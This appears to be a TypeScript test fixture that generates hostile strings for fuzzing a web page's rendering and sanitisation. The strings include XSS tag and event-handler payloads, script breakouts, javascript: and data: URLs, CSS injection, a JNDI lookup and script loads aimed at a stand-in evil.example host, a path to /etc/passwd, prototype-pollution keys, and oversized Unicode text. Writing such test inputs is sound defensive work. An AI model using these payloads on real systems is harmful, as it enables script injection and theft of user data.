import { HOSTILE_TEXTS } from './hostile-texts.js';

const CODE = 'window.executed=1';
const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'details open', 'math', 'object data=x'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];
const BREAKS = [
  '">',
  "'>",
  '</bdi>',
  '</title>',
  '-->',
  ']]>',
  '</script>',
  '\\u003c/',
  '\u0000',
  '`${',
  '&quot;>',
  '</td>',
];
const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  'data:image/svg+xml,<svg onload=alert(1)>',
  '//evil.example/x.js',
  '\\\\evil.example\\share',
  'https://evil.example/?q=',
  'file:///etc/passwd',
  '../../../../api/logout',
  '#/patterns?sort=__proto__',
];
const STYLES = [
  ';background:url(https://evil.example/x)',
  'expression(window.executed=1)',
  '@import "https://evil.example/x.css";',
  '}*{display:none}',
  'position:fixed;inset:0;z-index:99999',
  '--accent:url(x)',
  'width:99999px',
  '\\74 able{}',
];
/** Begin of a placeholder of templates. */
const PLACE = '${';
const FORMATS = [
  '%s%s%s%n%n%n',
  '%1000000d',
  `${PLACE}7*7}`,
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  `${PLACE}jndi:ldap://evil.example/x}`,
  '{0}{1}{2}',
  "$&$`$'$1",
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  '&lt;script&gt;&#60;script&#62;',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
];
const NAMES = [
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '.',
  '..',
  '~',
  '/',
  '\\',
  '?',
  '#',
  '*',
  ' ',
];
const RIGHT_TO_LEFT = [
  'עִבְרִית',
  'العَرَبِيَّة',
  'فارسی',
  'اردو',
  'ދިވެހި',
  'ܣܘܪܝܝܐ',
  'ߒߞߏ',
  'عربي (english) [x]',
  'שלום <b>x</b>',
  '١٢٣٪ من ٤٥٦',
];
const PICTURES = ['👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇦🇶🇦🇶🇦', '👍🏿', '❤️‍🔥', '﷽﷽﷽﷽', '𒐫𒐫𒐫', '꧁꧂'];
const MEGABYTE = 1_000_000;
const LETTERS = ['W', '字', '🔥', 'a\u0301', 'ש', '\u200b', '\u00ad', '-', 'i\u0308\u0323'];

const repeated = (letter: string, length: number) => letter.repeat(Math.ceil(length / letter.length));
const codes = (from: number, to: number) =>
  Array.from({ length: to - from }, (_, at) => String.fromCodePoint(from + at));

/** Texts that attack a page or its layout: more than 200, all different. */
export const HOSTILE_VARIANTS: readonly string[] = [
  ...new Set([
    ...HOSTILE_TEXTS,
    ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${CODE}>`)),
    ...BREAKS.map((end) => `${end}<script>${CODE}</script><h1>taken over</h1>`),
    ...ADDRESSES,
    ...STYLES.flatMap((style) => [style, `" style="${style}"`]),
    ...FORMATS,
    ...NAMES,
    ...RIGHT_TO_LEFT,
    ...PICTURES,
    // Marks, embeddings, overrides and isolates of text direction, and characters without width.
    ...[...codes(0x200b, 0x2010), ...codes(0x2028, 0x202f), ...codes(0x2060, 0x2070)].map(
      (code) => `a${code}b<i>${code}`,
    ),
    ...[...codes(0, 0x20), ...codes(0x7f, 0xa1)].filter((_, at) => at % 4 === 0).map((code) => `c${code}d${code}`),
    ...LETTERS.map((letter) => repeated(letter, MEGABYTE)),
  ]),
];
